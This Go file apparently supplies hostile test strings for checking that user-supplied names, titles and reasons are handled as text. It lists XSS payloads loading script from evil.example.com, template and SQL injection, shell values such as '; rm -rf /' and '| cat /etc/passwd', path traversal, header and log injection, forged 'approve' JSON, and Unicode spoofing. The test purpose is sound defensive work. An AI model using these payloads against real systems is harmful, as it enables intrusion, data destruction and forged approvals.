// Package hostile has strings as attackers write them into names, tags, titles and reasons, for tests that show that they stay
// what they are: text.
package hostile

import (
	"html"
	"net/url"
	"strings"
)

// fragments break out of one thing each.
var fragments = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example.com/x.js></sCrIpT>`, `"><img src=x onerror=alert(1)>`, `' onfocus=alert(1) autofocus='`, `</style><script>alert(1)</script>`,
	`</title><svg onload=alert(1)>`, `</textarea><script>alert(1)</script>`, `</textarea><form action=https://evil.example.com><input name=nonce>`, `<form id=x></form><button form=x formaction=https://evil.example.com>Approve`,
	`<a href="javascript:alert(1)">click</a>`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
	`<iframe src=https://evil.example.com></iframe>`, `<object data=x>`, `<embed src=x>`, `<base href=https://evil.example.com/>`, `<meta http-equiv=refresh content="0;url=https://evil.example.com">`,
	`<link rel=stylesheet href=https://evil.example.com/x.css>`, `<style>*{display:none}</style>`, `x;background:url(https://evil.example.com)`, `expression(alert(1))`, `<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>`,
	`<svg><script>alert&#40;1)</script>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<!-- `, `--><script>alert(1)</script>`, `<![CDATA[`, `]]>`, `<?xml version="1.0"?>`, `&lt;script&gt;`, `&#60;script&#62;alert(1)`, `&quot;onclick=alert(1)`,
	`{{.Nonce}}`, `{{template "head"}}`, `{{`, `}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `[[${7*7}]]`, `{%7*7%}`, `$(id)`, "`id`", `; rm -rf /`, `| cat /etc/passwd`, `../../etc/passwd`, `%2e%2e%2f`, `' OR '1'='1`, `"; drop table x; --`, `=cmd|' /C calc'!A0`, `@SUM(1+1)`,
	"line\r\nset-cookie: a=b", "line\nDECIDE BEFORE now", "x\r\nBcc: everybody@example.com", "a\nb\nc", "{\"level\":\"INFO\"}\n{\"msg\":\"approved\"}", `","approve":true,"x":"`, `\",\"decision\":\"approve`, "\x1b[2J\x1b[31mred", "\x1b]8;;https://evil.example.com\x07here\x1b]8;;\x07", "a\x00b", "a\x08\x08\x08b", "\x7f", "bell\x07",
	"a\u202egnp.exe\u202c", "\u2066\u2067x\u2069", "a\u200bb\u200cc\u200dd", "\ufeffbom", "a\u2028b\u2029c", "a\u00adb", "a\u0085b", "\ue000private", "x\xff\xfe", "\xed\xa0\x80", "\xc0\xafoverlong", "z\u0351\u0356\u0323\u0349a\u0335l\u0321g\u0338o", "аdmin (Cyrillic a)", "ｓｃｒｉｐｔ", "İstanbul ſ K", "日本語の名前", "👩‍👩‍👧‍👦 🏴‍☠️",
	"https://evil.example.com/approve/x", "http://192.0.2.1/", "//evil.example.com", "www.evil.example.com", "WWW.evil.example.com", "mailto:x@example.com", "tel:+15550100", "ftp://evil.example.com", "file:///etc/passwd", "user@example.com",
	"<https://evil.example.com|Approve here>", "<!channel>", "<!here> now", "<@U012AB3CD>", "<#C012AB3CD>", "<!subteam^S012AB3CD>", "<!date^1392734382^{date}|x>", "*bold* _it_ ~no~ `code`", "> quote\n>>> more", ":fire: :rotating_light:", "[text](https://evil.example.com)", "```\nblock\n```", "&amp;lt;!channel&amp;gt;",
	strings.Repeat("W", 1000), strings.Repeat("日", 600), strings.Repeat("<", 700), strings.Repeat("&", 3100), strings.Repeat("a\n", 400), strings.Repeat("\u202e", 300), strings.Repeat("x ", 2000), "", " ", "\t\n", "-", "null", "undefined", "NaN", "0", "true", "__proto__", "constructor",
}

// Strings gives 500 and more: each fragment as it is, and as attackers wrap it.
func Strings() []string {
	wraps := []func(string) string{
		func(s string) string { return s },
		func(s string) string { return "clinic-web " + s + " (prod)" },
		func(s string) string { return `"'>` + s },
		func(s string) string { return html.EscapeString(s) },
		func(s string) string { return url.QueryEscape(s) },
	}
	seen := map[string]bool{}
	var out []string
	for _, w := range wraps {
		for _, f := range fragments {
			if s := w(f); !seen[s] {
				seen[s] = true
				out = append(out, s)
			}
		}
	}
	return out
}
